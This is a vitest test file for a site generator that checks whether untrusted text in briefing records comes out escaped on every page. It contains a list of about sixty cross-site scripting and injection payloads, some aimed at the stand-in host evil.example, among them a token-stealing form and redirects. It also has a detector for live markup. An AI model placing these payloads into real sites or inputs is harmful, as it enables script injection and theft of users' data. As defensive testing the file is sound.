import { describe, expect, it } from 'vitest';
import { recordPath } from '../../../src/core/pages/page-address.ts';
import { type Briefing, datedRecords, recordId } from '../../../src/domain/briefing.ts';
import { smallBriefing } from '../../fixtures/small-briefing.ts';
import { everyKind, openSite } from './site.ts';

/** Words that would be more than words in a page, an attribute, an address, a style or a script. */
const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '`onload=alert(1)`',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  'https://evil.example/"><script>alert(1)</script>',
  '<a href="https://evil.example">click</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=token></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<style>*{display:none}</style>',
  '<div style="background:url(https://evil.example)">',
  '--><script>alert(1)</script>',
  '<!--',
  ']]><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '<%= alert(1) %>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202egnp.exe\u202c',
  '\u2066reordered\u2069',
  '\u0000<script>alert(1)</script>',
  '\ud800<script>alert(1)</script>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<textarea><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<q cite="javascript:alert(1)">x</q>',
  '*bold* <https://evil.example|click> `code`',
  '[click](<javascript:alert(1)>) **bold** @everyone',
];

/** Fields whose words are not ours to choose: ids, dates, kinds and numbers stay. */
const KEPT = new Set([
  ...[
    'id',
    'kind',
    'source',
    'speaker',
    'party',
    'text',
    'provision',
    'per',
    'who',
    'group',
    'mainText',
    'latestText',
  ],
  ...[
    'zone',
    'reviewed',
    'asOf',
    'reported',
    'precision',
    'from',
    'to',
    'status',
    'change',
    'provenance',
    'quality',
  ],
  ...[
    'stance',
    'form',
    'materiality',
    'origin',
    'type',
    'about',
    'parents',
    'authors',
    'records',
    'credits',
    'language',
  ],
  ...['choice', 'outcome', 'body', 'day', 'records', 'translator'],
  ...['occasionId', 'partOf', 'due', 'step', 'deadline', 'figure', 'sha256', 'labels', 'called', 'annexTo'],
]);

/** The same with this string in every field that holds words. */
function poisoned<T>(value: T, words: string, key = ''): T {
  if (typeof value === 'string') return (KEPT.has(key) ? value : words) as T;
  if (Array.isArray(value)) return value.map((one) => poisoned(one, words, key)) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, inner]) => [
      name,
      name === 'text' && key === 'lead' ? words : poisoned(inner, words, name === 'lead' ? 'lead' : name),
    ]),
  ) as T;
}

/** Elements and attributes that a page of ours may have; whatever else stands in it came from a field. */
const ELEMENTS = new Set(
  'a article b blockquote body br button code dd details div dl dt figcaption figure footer form g h1 h2 h3 head header hr html i img input label li line link main meta nav ol output p path picture pre q rect s script section source span strong summary svg table tbody td text th thead time title tr ul circle'.split(
    ' ',
  ),
);

/** What hides or reorders the text around it. */
const REORDERING = ['\u0000', '\u0001', '\u202a', '\u202e', '\u2066', '\u2069'];

/** What is live in a page though it should be words. */
function live(page: string): readonly string[] {
  const found: string[] = [];
  for (const [tag, name = ''] of page.matchAll(/<([a-z!][^\s/>]*)[^>]*>/gi)) {
    if (name.startsWith('!') ? tag !== '<!doctype html>' : !ELEMENTS.has(name.toLowerCase())) found.push(tag);
    if (/\son[a-z]+\s*=/i.test(tag.replaceAll(/"[^"]*"/g, '""'))) found.push(tag);
    for (const [, target = ''] of tag.matchAll(/ (?:href|src|srcset|action)="([^"]*)"/g)) {
      if (!/^(?:\/(?!\/)|#|https?:\/\/|data:,$)/.test(target)) found.push(tag);
    }
    if (name.toLowerCase() === 'script' && !/^<script src="\/-\/[\da-f]+\/readout\.js" defer>$/.test(tag))
      found.push(tag);
    if (/ style=/.test(tag.replaceAll(/"[^"]*"/g, '""'))) found.push(tag);
  }
  if (REORDERING.some((sign) => page.includes(sign))) found.push('a control character');
  return found;
}

describe('words from outside in pages', () => {
  it('are a hostile list long enough', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
  });

  it('stay words in every field of every kind of record, on every page', { timeout: 60_000 }, async () => {
    const clean = smallBriefing();
    const [statement, ...rest] = clean.statements;
    const paths = (briefing: Briefing) => [
      ...['', '/crosswalk', '/statements', '/people', '/timeline', '/disputes', '/sources', '/board'].map(
        (list) => `/${briefing.id}${list}`,
      ),
      ...firstOfEach(briefing).map((id) => recordPath(briefing.id, id)),
      '/ask?q=%2Fplan-point+6',
      '/preview?q=%2Fplan-point+6',
    ];
    expect([statement, rest.length > 0]).not.toContain(undefined);
    for (const words of HOSTILE) {
      const briefing = poisoned(clean, words);
      const site = await openSite([briefing]);
      for (const path of paths(briefing)) {
        const page = await site.text(path);
        expect([words, path, live(page)]).toEqual([words, path, []]);
      }
      const asked = await site.text(`/ask?${new URLSearchParams({ q: words })}`);
      const found = await site.text(`/lake/statements?${new URLSearchParams({ q: words })}`);
      expect([words, live(asked), live(found)]).toEqual([words, [], []]);
      await site.stop();
    }
  });

  it('stay words where a story tracks votes, figures, deadlines, occasions and groups, and in the reason of a withdrawal', async () => {
    const kinds = everyKind();
    const gone = { record: 'statement:gone', on: '2041-06-10', reason: 'misread' };
    for (const words of HOSTILE.filter((_, at) => at % 6 === 0)) {
      const briefing: Briefing = {
        ...poisoned(kinds, words),
        withdrawn: [{ ...gone, reason: words }],
      };
      const site = await openSite([briefing], { day: '2041-07-01' });
      const { figures, deadlines, occasions, actors } = briefing;
      const paths = [
        ...['', '/timeline', '/people', '/disputes'].map((list) => `/${briefing.id}${list}`),
        ...[...briefing.votes, ...figures, ...deadlines, ...occasions, ...actors].map((one) =>
          recordPath(briefing.id, recordId(one)),
        ),
        recordPath(briefing.id, gone.record),
      ];
      for (const path of paths) {
        const response = await site.get(path);
        expect([words, path, response.status, live(await response.text())]).toEqual([words, path, 200, []]);
      }
      await site.stop();
    }
  });
});

function firstOfEach(briefing: Briefing): readonly string[] {
  const { sources, actors, provisions } = briefing;
  const kinds = Map.groupBy(
    [...datedRecords(briefing), ...sources, ...actors, ...provisions],
    ({ kind }) => kind,
  );
  return [...kinds.values()].flatMap(([one]) => (one === undefined ? [] : [recordId(one)]));
}
